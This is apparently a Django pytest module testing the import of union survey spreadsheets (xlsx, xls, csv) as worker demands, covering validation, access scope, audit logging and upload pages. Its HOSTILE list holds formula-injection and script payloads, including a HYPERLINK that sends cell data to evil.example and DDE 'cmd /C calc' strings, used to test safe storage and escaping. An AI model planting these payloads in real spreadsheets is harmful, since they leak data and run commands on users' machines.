"""Survey results imported as demands: real files (.xlsx, .xls, .csv in three encodings), every problem
named by row and column, all rows or none, hostile cells kept as plain text, the pages and their scope."""

from __future__ import annotations

import datetime as dt
import io
import os
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from gonghui.core.errors import NotFound
from gonghui.core.models import AuditEvent
from gonghui.voice.choices import DemandCategory, DemandKind, DemandSource
from gonghui.voice.models import Demand, DemandImport
from gonghui.voice.services import imports as svc
from gonghui.voice.services.imports import demand_import
from tests.data.roster.builders import write_csv, write_xls

pytestmark = pytest.mark.django_db

HEADER = ["内容", "类型", "分类", "来源", "所属工会", "反映人", "匿名", "反映日期"]
TRADITIONAL = "工廠拖欠工資三個月了，希望工會幫忙討薪"
SIMPLIFIED = "工厂拖欠工资三个月了,希望工会帮忙讨薪"  # NFKC turns the full-width comma half-width


def _today() -> dt.date:
    return timezone.localdate()


def write_xlsx(path: Path, rows: Sequence[Sequence[object]]) -> Path:
    """XlsxWriter, every string written as a string (so "=..." stays text), dates as real date cells."""
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("问卷")
    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None or value == "":
                continue
            if isinstance(value, dt.date):
                ws.write_datetime(r, c, dt.datetime(value.year, value.month, value.day), date_fmt)
            elif isinstance(value, (int, float)):
                ws.write_number(r, c, value)
            else:
                ws.write_string(r, c, str(value))
    wb.close()
    return path


def good_rows(world, *, when: dt.date | None = None) -> list[list[object]]:  # type: ignore[no-untyped-def]
    when = when or _today() - dt.timedelta(days=5)
    return [
        HEADER,
        [TRADITIONAL, "诉求", "工资报酬", "座谈会", world.union_a.code, "和 丽 华", "否", when],
        ["建议食堂晚上延长供餐时间，照顾夜班职工", "建议", "", "", "", "", "是", "2026年1月3日"],
        ["宿舍热水经常停，洗澡很不方便", "", "生产生活条件", "走访", world.union_a2.name, "木春梅", "", "2026/1/4"],
    ]


def _import(world, path: Path, *, actor=None, org=None, name: str | None = None):  # type: ignore[no-untyped-def]
    return demand_import(
        actor=actor or world.county_cadre_a,
        org=org or world.county_a,
        upload_path=path,
        original_name=name or path.name,
    )


def _check_good_import(world, outcome) -> None:  # type: ignore[no-untyped-def]
    assert outcome.ok, outcome.errors
    assert outcome.created == 3
    batch = DemandImport.objects.get()
    assert batch.rows == 3 and batch.org == world.county_a and batch.created_by == world.county_cadre_a
    first, second, third = Demand.objects.order_by("id")
    assert first.text == TRADITIONAL  # kept as written
    assert first.text_normalized == SIMPLIFIED
    assert first.org == world.union_a and first.kind == DemandKind.DEMAND
    assert first.category == DemandCategory.WAGES and first.source == DemandSource.MEETING
    assert first.speaker_name == "和丽华" and not first.is_anonymous
    assert first.submitted_on == _today() - dt.timedelta(days=5)
    assert first.entered_by == world.county_cadre_a and first.import_batch == batch
    assert first.submitter is None
    assert second.kind == DemandKind.SUGGESTION and second.category == ""
    assert second.source == DemandSource.SURVEY  # the default
    assert second.org == world.county_a  # no 所属工会: the union imported into
    assert second.is_anonymous and second.speaker_name == ""
    assert second.submitted_on == dt.date(2026, 1, 3)
    assert third.kind == DemandKind.DEMAND and third.org == world.union_a2  # by full name
    assert third.source == DemandSource.VISIT and third.submitted_on == dt.date(2026, 1, 4)
    assert len({d.tracking_no for d in (first, second, third)}) == 3
    assert all(d.tracking_no.startswith("SQ") for d in (first, second, third))


# --- file types and encodings ------------------------------------------------------------------------


def test_xlsx_imports_every_field(world, tmp_path):
    _check_good_import(world, _import(world, write_xlsx(tmp_path / "问卷.xlsx", good_rows(world))))


def test_xls_imports_every_field(world, tmp_path):
    _check_good_import(world, _import(world, write_xls(tmp_path / "问卷.xls", good_rows(world))))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_csv_in_each_encoding_imports_every_field(world, tmp_path, encoding):
    rows = good_rows(world)
    rows[1][7] = f"{_today() - dt.timedelta(days=5):%Y-%m-%d}"
    path = write_csv(tmp_path / "问卷.csv", rows, encoding=encoding)
    if encoding == "gbk":
        with pytest.raises(UnicodeDecodeError):
            path.read_bytes().decode("utf-8")  # really GBK bytes, not UTF-8
    _check_good_import(world, _import(world, path))


def test_title_rows_above_the_header_and_blank_rows_are_skipped(world, tmp_path):
    rows: list[list[object]] = [
        ["2026年职工需求问卷调查结果"],
        ["填报单位：古城区总工会", "", "", "填报日期：2026-11-01"],
        [],
        ["序号", "诉求内容（必填）", "＊类 型", "反映日期"],
        [1, "加班费没有按规定的标准发放", "诉求", "2026-10-01"],
        [2, "", "", ""],
        [],
        [3, "希望增加一些技能培训的机会", "建议", ""],
    ]
    outcome = _import(world, write_xlsx(tmp_path / "t.xlsx", rows))
    assert outcome.ok, outcome.errors
    assert outcome.header_row == 4 and outcome.created == 2
    texts = list(Demand.objects.order_by("id").values_list("text", "kind", "submitted_on"))
    assert texts == [
        ("加班费没有按规定的标准发放", "demand", dt.date(2026, 10, 1)),
        ("希望增加一些技能培训的机会", "suggestion", _today()),
    ]


# --- every problem named, nothing written ------------------------------------------------------------


def test_missing_content_column_is_named_with_the_columns_found(world, tmp_path):
    rows = [["标题：问卷"], ["序号", "类型", "分类", "反映日期"], [1, "诉求", "工资报酬", "2026-01-01"]]
    outcome = _import(world, write_xlsx(tmp_path / "no-text.xlsx", rows))
    assert not outcome.ok and outcome.created == 0
    (error,) = outcome.errors
    assert error.row == 2 and error.column == "内容"
    assert "缺少必填列“内容”" in error.message
    for found in ("序号", "类型", "分类", "反映日期"):
        assert f"“{found}”" in error.message
    assert not Demand.objects.exists() and not DemandImport.objects.exists()


def test_no_header_at_all_is_a_clear_file_error(world, tmp_path):
    outcome = _import(world, write_xlsx(tmp_path / "x.xlsx", [["姓名", "身份证号"], ["张三", "530702"]]))
    (error,) = outcome.errors
    assert error.row == 0 and "没有找到表头" in error.message and "“姓名”" in error.message


def test_one_bad_row_among_good_ones_writes_nothing_and_names_row_and_column(world, tmp_path):
    rows = good_rows(world)
    rows.insert(3, ["食堂", "诉求", "工资待遇", "", "", "", "也许", "2026-13-01"])  # row 4 in Excel
    outcome = _import(world, write_xlsx(tmp_path / "bad.xlsx", rows))
    assert not outcome.ok
    assert [(e.row, e.column) for e in outcome.errors] == [
        (4, "内容"),
        (4, "分类"),
        (4, "匿名"),
        (4, "反映日期"),
    ]
    messages = {e.column: e.message for e in outcome.errors}
    assert "至少 5 个字" in messages["内容"]
    assert "工资待遇" in messages["分类"] and "工资报酬" in messages["分类"]
    assert "是" in messages["匿名"] and "也许" in messages["匿名"]
    assert "不存在" in messages["反映日期"]
    assert not Demand.objects.exists() and not DemandImport.objects.exists()
    assert not AuditEvent.objects.filter(action="demand.import").exists()


def test_unknown_values_of_kind_and_source_and_self_report(world, tmp_path):
    rows = [
        ["内容", "类型", "来源"],
        ["加班费没有按规定的标准发放", "投诉", "微信"],
        ["加班费没有按规定的标准发放", "诉求", "职工自报"],
    ]
    outcome = _import(world, write_xlsx(tmp_path / "v.xlsx", rows))
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "类型"), (2, "来源"), (3, "来源")]
    assert "投诉" in outcome.errors[0].message and "微信" in outcome.errors[1].message
    assert "职工自报" in outcome.errors[2].message
    assert not Demand.objects.exists()


def test_union_outside_the_subtree_or_unknown_is_a_row_error(world, tmp_path):
    rows = [
        ["内容", "所属工会"],
        ["加班费没有按规定的标准发放", world.union_a.code],
        ["加班费没有按规定的标准发放", world.union_b.code],  # exists, but under county B
        ["加班费没有按规定的标准发放", "不存在的工会"],
        ["加班费没有按规定的标准发放", world.union_b.name],
    ]
    outcome = _import(world, write_xlsx(tmp_path / "o.xlsx", rows), actor=world.cadre_a, org=world.union_a)
    assert [(e.row, e.column) for e in outcome.errors] == [(3, "所属工会"), (4, "所属工会"), (5, "所属工会")]
    assert "找不到工会" in outcome.errors[0].message
    assert outcome.errors[0].message.replace(world.union_b.code, "X") == outcome.errors[1].message.replace(
        "不存在的工会", "X"
    )  # out of scope reads exactly like absent
    assert not Demand.objects.exists()


def test_closed_union_is_a_row_error(world, tmp_path):
    world.union_a2.status = "closed"
    world.union_a2.save(update_fields=["status"])
    rows = [["内容", "所属工会"], ["加班费没有按规定的标准发放", world.union_a2.code]]
    outcome = _import(world, write_xlsx(tmp_path / "c.xlsx", rows))
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "所属工会")]
    assert "撤销或合并" in outcome.errors[0].message


def test_cadre_of_another_union_cannot_import_into_union_a(world, tmp_path):
    path = write_xlsx(tmp_path / "g.xlsx", [["内容"], ["加班费没有按规定的标准发放"]])
    with pytest.raises(NotFound):
        _import(world, path, actor=world.cadre_b, org=world.union_a)
    with pytest.raises(NotFound):
        _import(world, path, actor=world.worker, org=world.union_a)
    with pytest.raises(NotFound):
        _import(world, path, actor=world.leader, org=world.union_a)
    assert not Demand.objects.exists()


def test_future_date_is_refused(world, tmp_path):
    tomorrow = _today() + dt.timedelta(days=1)
    rows = [["内容", "反映日期"], ["加班费没有按规定的标准发放", tomorrow], ["加班费没有按规定的标准发放", _today()]]
    outcome = _import(world, write_xlsx(tmp_path / "f.xlsx", rows))
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "反映日期")]
    assert "晚于今天" in outcome.errors[0].message
    assert not Demand.objects.exists()


def test_too_long_text_is_refused_and_2000_characters_pass(world, tmp_path):
    rows = [["内容"], ["长" * 2001], ["长" * 2000]]
    outcome = _import(world, write_xlsx(tmp_path / "l.xlsx", rows))
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "内容")]
    assert "2000" in outcome.errors[0].message and "2001" in outcome.errors[0].message
    assert _import(world, write_xlsx(tmp_path / "l2.xlsx", [["内容"], ["长" * 2000]])).created == 1


def test_ten_megabyte_cell_in_a_csv_is_refused_with_its_row(world, tmp_path):
    rows = [["内容", "反映人"], ["加班费没有按规定的标准发放", "张三"], ["加班费" * (10 * 1024 * 1024 // 9), "李四"]]
    path = write_csv(tmp_path / "big.csv", rows)
    assert path.stat().st_size > 10 * 1024 * 1024
    outcome = _import(world, path)
    (error,) = outcome.errors
    assert "第3行" in error.message and "过大" in error.message
    assert not Demand.objects.exists()


def test_oversized_cell_in_an_xlsx_is_refused_with_row_and_column(world, tmp_path):
    wb = openpyxl.Workbook()  # openpyxl writes a cell over Excel's 32,767 characters; XlsxWriter will not
    ws = wb.active
    assert ws is not None
    ws.append(["内容", "反映人"])
    ws.append(["加班费没有按规定的标准发放", "名" * 40_000])
    wb.save(tmp_path / "big.xlsx")
    outcome = _import(world, tmp_path / "big.xlsx")
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "反映人")]
    assert "过大" in outcome.errors[0].message
    assert not Demand.objects.exists()


def test_file_over_the_size_cap_is_refused(world, tmp_path, monkeypatch):
    monkeypatch.setattr(svc, "MAX_FILE_BYTES", 1000)
    path = write_csv(tmp_path / "s.csv", [["内容"]] + [["加班费没有按规定的标准发放"]] * 100)
    (error,) = _import(world, path).errors
    assert error.row == 0 and "文件太大" in error.message


def test_rows_over_the_cap_are_refused(world, tmp_path, monkeypatch):
    monkeypatch.setattr(svc, "MAX_ROWS", 3)
    path = write_csv(tmp_path / "r.csv", [["内容"]] + [["加班费没有按规定的标准发放"]] * 4)
    outcome = _import(world, path)
    assert [e.row for e in outcome.errors] == [5]
    assert "最多导入 3 条" in outcome.errors[0].message
    assert not Demand.objects.exists()
    monkeypatch.setattr(svc, "MAX_ROWS", 4)
    assert _import(world, path).created == 4


def test_problem_list_is_capped_with_a_count_of_the_rest(world, tmp_path):
    path = write_csv(tmp_path / "many.csv", [["内容", "类型"]] + [["短", "怪"]] * 150)
    outcome = _import(world, path)
    assert len(outcome.errors) == svc.ERRORS_LISTED == 200
    assert outcome.errors_omitted == 100 and outcome.error_count == 300
    assert outcome.errors[0].row == 2 and outcome.errors[-1].row == 101


def test_content_only_header_row_with_nothing_below_is_refused(world, tmp_path):
    (error,) = _import(world, write_csv(tmp_path / "h.csv", [["内容", "类型"], ["", ""]])).errors
    assert "没有任何诉求" in error.message


# --- whole-file problems -----------------------------------------------------------------------------


def test_damaged_xlsx(world, tmp_path):
    path = tmp_path / "坏.xlsx"
    path.write_bytes(b"PK\x03\x04" + os.urandom(4000))
    (error,) = _import(world, path).errors
    assert error.row == 0 and "无法打开" in error.message
    path.write_bytes(os.urandom(4000).replace(b"PK", b"pk"))
    (error,) = _import(world, path).errors
    assert "不是真正的 Excel" in error.message or "无法打开" in error.message


def test_empty_file(world, tmp_path):
    path = tmp_path / "空.csv"
    path.write_bytes(b"")
    (error,) = _import(world, path).errors
    assert error.row == 0 and "空的" in error.message


def test_binary_junk_csv(world, tmp_path):
    path = tmp_path / "junk.csv"
    path.write_bytes(bytes(range(256)) * 40 + b"\x81\x20\xff\xfe\x00")
    outcome = _import(world, path)
    assert not outcome.ok and outcome.errors[0].row == 0
    assert any(w in outcome.errors[0].message for w in ("编码", "表头", "格式"))
    assert not Demand.objects.exists()


def test_wrong_file_type(world, tmp_path):
    path = tmp_path / "问卷.docx"
    path.write_bytes(b"PK\x03\x04whatever")
    (error,) = _import(world, path).errors
    assert ".xlsx" in error.message


# --- hostile cells -----------------------------------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")',
    "+cmd|' /C calc'!A0 领导请看这里",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('工资')</script>",
    "-2+3 食堂饭菜价格上涨太快",
]


def test_formula_and_markup_strings_are_stored_as_plain_text(world, tmp_path):
    rows = [["内容", "反映人"]] + [[text, "<b>张三</b>"] for text in HOSTILE]
    for path in (write_xlsx(tmp_path / "h.xlsx", rows), write_csv(tmp_path / "h.csv", rows)):
        Demand.objects.all().delete()
        outcome = _import(world, path)
        assert outcome.ok, outcome.errors
        assert list(Demand.objects.order_by("id").values_list("text", flat=True)) == HOSTILE


def test_a_nul_character_is_refused_naming_its_row_and_column(world, tmp_path):
    path = write_csv(
        tmp_path / "nul.csv", [["内容", "反映人"], ["工资拖欠了三个月", "张三"], ["工资\x00拖欠了三个月", ""]]
    )
    outcome = _import(world, path)
    assert [(e.row, e.column) for e in outcome.errors] == [(3, "内容")]
    assert "空字符" in outcome.errors[0].message and "第3行第A列" in outcome.errors[0].message
    assert not Demand.objects.exists()


# --- the write -----------------------------------------------------------------------------------------


def test_audit_event_counts_without_texts(world, tmp_path):
    outcome = _import(world, write_xlsx(tmp_path / "a.xlsx", good_rows(world)))
    event = AuditEvent.objects.get(action="demand.import")
    assert event.actor == world.county_cadre_a and event.object_id == str(outcome.batch.pk)
    assert event.org_id_snapshot == world.county_a.pk
    assert event.after["rows"] == 3 and event.after["unions"] == 3 and event.after["anonymous"] == 1
    assert event.after["kinds"] == {"demand": 2, "suggestion": 1}
    flat = str(event.after) + event.object_label
    assert "拖欠" not in flat and "食堂" not in flat and "和丽华" not in flat
    assert not AuditEvent.objects.filter(action="demand.enter").exists()  # one event, not one per row


def test_tracking_numbers_unique_even_when_the_draw_repeats(world, tmp_path, monkeypatch):
    taken = Demand.objects.create(
        tracking_no="SQ000000AAAAAA", org=world.union_a, text="x" * 5, text_normalized="x" * 5, submitted_on=_today()
    )
    draws = iter(["SQ000000AAAAAA", "SQ000000BBBBBB", "SQ000000BBBBBB", "SQ000000CCCCCC"] + ["SQ000000DDDDDD"] * 5)
    monkeypatch.setattr(svc, "new_tracking_no", lambda today=None: next(draws))
    path = write_csv(tmp_path / "t.csv", [["内容"], ["加班费没有按规定的标准发放"], ["宿舍热水经常停，很不方便"]])
    assert _import(world, path).created == 2
    numbers = set(Demand.objects.exclude(pk=taken.pk).values_list("tracking_no", flat=True))
    assert numbers == {"SQ000000BBBBBB", "SQ000000CCCCCC"}


def test_mobile_and_id_numbers_are_masked_in_the_analysed_copy(world, tmp_path):
    text = "我的电话13987001234，工资没发"
    _import(world, write_csv(tmp_path / "m.csv", [["内容"], [text]]))
    demand = Demand.objects.get()
    assert demand.text == text and "13987001234" not in demand.text_normalized


# --- pages ---------------------------------------------------------------------------------------------


def _client(user) -> Client:  # type: ignore[no-untyped-def]
    c = Client()
    c.force_login(user)
    return c


def _xlsx_upload(rows: Sequence[Sequence[object]], tmp_path: Path, name: str = "问卷.xlsx") -> SimpleUploadedFile:
    path = write_xlsx(tmp_path / name, rows)
    return SimpleUploadedFile(name, path.read_bytes(), content_type="application/octet-stream")


def test_form_page_lists_only_unions_in_voice_scope(world):
    page = _client(world.cadre_a).get(reverse("voice:import"))
    assert page.status_code == 200
    html = page.content.decode()
    assert world.union_a.name in html and world.union_b.name not in html and world.county_a.name not in html
    assert 'name="file"' in html and reverse("voice:import_sample") in html
    html = _client(world.county_cadre_a).get(reverse("voice:import")).content.decode()
    assert world.union_a2.name in html and world.union_b.name not in html


@pytest.mark.parametrize("route", ["voice:import", "voice:import_sample"])
def test_permission_matrix(world, route):
    url = reverse(route)
    anonymous = Client().get(url)
    assert anonymous.status_code == 302 and "/accounts/" in anonymous["Location"]
    assert Client().post(url).status_code == 302
    for outsider in (world.worker, world.leader):
        assert _client(outsider).get(url).status_code == 404
    for cadre in (world.cadre_a, world.cadre_b, world.county_cadre_a, world.city_admin):
        assert _client(cadre).get(url).status_code == 200
    if route == "voice:import":
        assert _client(world.worker).post(url).status_code == 404
    else:
        assert _client(world.cadre_a).post(url).status_code == 405


def _job():  # type: ignore[no-untyped-def]
    from gonghui.core.models import TabularJob

    return TabularJob.objects.get()


def test_post_good_file_is_checked_then_confirmed_and_shows_the_count(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    client = _client(world.county_cadre_a)
    response = client.post(
        reverse("voice:import"), {"org": world.county_a.code, "file": _xlsx_upload(good_rows(world), tmp_path)}
    )
    job = _job()
    assert response.status_code == 302 and response["Location"] == reverse("voice:import_job", args=[job.pk])
    assert job.state == "validated" and job.valid_rows == 3 and job.org_id == world.county_a.pk
    assert not Demand.objects.exists()  # checked, nothing written before the confirm
    stored = Path(settings.UPLOAD_DIR) / "survey" / job.stored_path
    assert stored.exists() and (stored.stat().st_mode & 0o777) == 0o600
    assert "木春梅".encode() not in stored.read_bytes()  # waits encrypted
    page = client.get(response["Location"]).content.decode()
    assert "检查通过" in page and "确认导入 3 条诉求" in page
    confirm = reverse("voice:import_job_confirm", args=[job.pk])
    done = client.post(confirm, {"version": job.version})
    assert done.status_code == 302
    page = client.get(done["Location"], follow=True)
    html = page.content.decode()
    assert "成功导入" in html and 'id="created">3<' in html and reverse("voice:demands") in html
    assert Demand.objects.count() == 3 and DemandImport.objects.get().file_name == "问卷.xlsx"
    assert not stored.exists()  # deleted when the job ended
    again = client.post(confirm, {"version": job.version}, follow=True)
    assert "已经导入完成" in again.content.decode() and Demand.objects.count() == 3
    actions = list(AuditEvent.objects.filter(object_id=str(job.pk)).values_list("action", flat=True))
    assert {"demand.import_upload", "demand.import_confirm"} <= set(actions)


def test_post_bad_file_shows_problems_and_writes_nothing(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    rows = good_rows(world)
    rows.append(['=HYPERLINK("http://x")', "诉求", "", "", world.union_b.code, "", "", ""])
    client = _client(world.county_cadre_a)
    response = client.post(reverse("voice:import"), {"org": world.county_a.code, "file": _xlsx_upload(rows, tmp_path)})
    html = client.get(response["Location"]).content.decode()
    assert "文件未导入" in html and "第5行" in html and "所属工会" in html and "行号" in html
    assert "hx-trigger" not in html and "确认导入" not in html
    assert not Demand.objects.exists() and not DemandImport.objects.exists()
    assert _job().state == "failed" and not any((Path(settings.UPLOAD_DIR) / "survey").iterdir())


def test_cancel_deletes_the_stored_file(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    client = _client(world.cadre_a)
    client.post(
        reverse("voice:import"),
        {"org": world.union_a.code, "file": _xlsx_upload([["内容"], ["宿舍热水经常停，很不方便"]], tmp_path)},
    )
    job = _job()
    stored = Path(settings.UPLOAD_DIR) / "survey" / job.stored_path
    assert stored.exists()
    assert (
        _client(world.cadre_b)
        .post(reverse("voice:import_job_cancel", args=[job.pk]), {"version": job.version})
        .status_code
        == 404
    )
    client.post(reverse("voice:import_job_cancel", args=[job.pk]), {"version": job.version})
    job.refresh_from_db()
    assert job.state == "failed" and not stored.exists() and not Demand.objects.exists()


def test_job_pages_of_another_union_are_404(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    _client(world.cadre_a).post(
        reverse("voice:import"),
        {"org": world.union_a.code, "file": _xlsx_upload([["内容"], ["宿舍热水经常停，很不方便"]], tmp_path)},
    )
    job = _job()
    for route in ("voice:import_job", "voice:import_job_status"):
        assert _client(world.cadre_b).get(reverse(route, args=[job.pk])).status_code == 404
        assert _client(world.worker).get(reverse(route, args=[job.pk])).status_code == 404
        assert _client(world.county_cadre_a).get(reverse(route, args=[job.pk])).status_code == 200
    assert (
        _client(world.cadre_b)
        .post(reverse("voice:import_job_confirm", args=[job.pk]), {"version": job.version})
        .status_code
        == 404
    )
    assert _job().state == "validated" and not Demand.objects.exists()


def test_post_escapes_hostile_text_in_the_problem_table(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    rows = [["内容", "分类"], ["宿舍热水经常停，很不方便", "<script>alert(1)</script>"]]
    client = _client(world.cadre_a)
    response = client.post(reverse("voice:import"), {"org": world.union_a.code, "file": _xlsx_upload(rows, tmp_path)})
    html = client.get(response["Location"]).content.decode()
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html


def test_post_into_a_union_outside_scope_is_refused(world, tmp_path):
    rows = [["内容"], ["宿舍热水经常停，很不方便"]]
    response = _client(world.cadre_b).post(
        reverse("voice:import"), {"org": world.union_a.code, "file": _xlsx_upload(rows, tmp_path)}
    )
    assert response.status_code == 200 and "请从列表中选择工会" in response.content.decode()
    assert not Demand.objects.exists()


def test_post_damaged_file_shows_a_file_problem(world, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    junk = SimpleUploadedFile("问卷.xlsx", b"PK\x03\x04" + os.urandom(2000))
    client = _client(world.cadre_a)
    response = client.post(reverse("voice:import"), {"org": world.union_a.code, "file": junk})
    html = client.get(response["Location"]).content.decode()
    assert "整个文件" in html and "无法打开" in html
    assert not Demand.objects.exists()
    fake = SimpleUploadedFile("问卷.xlsx", b"<html><table></table></html>")
    response = client.post(reverse("voice:import"), {"org": world.union_a.code, "file": fake})
    assert response.status_code == 200 and "不是真正的 Excel" in response.content.decode()


def test_success_page_of_another_unions_import_is_404(world, tmp_path):
    outcome = _import(world, write_csv(tmp_path / "x.csv", [["内容"], ["宿舍热水经常停，很不方便"]]))
    url = f"{reverse('voice:import')}?done={outcome.batch.pk}"
    assert _client(world.cadre_b).get(url).status_code == 404
    assert _client(world.county_cadre_a).get(url).status_code == 200


def test_sample_round_trip(world, tmp_path):
    response = _client(world.cadre_a).get(reverse("voice:import_sample"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == HEADER
    assert ws.max_row == 3
    # fill it in as a cadre would: one more row, then import the sample as is
    filled = ["子女入学难，希望工会协调", "诉求", "困难帮扶", "走访", world.union_a.code, "李四", "否", "2026-02-01"]
    ws.append(filled)
    wb.save(tmp_path / "filled.xlsx")
    outcome = _import(world, tmp_path / "filled.xlsx", actor=world.cadre_a, org=world.union_a)
    assert outcome.ok, outcome.errors
    assert outcome.created == 3
    assert set(Demand.objects.values_list("kind", flat=True)) == {"demand", "suggestion"}
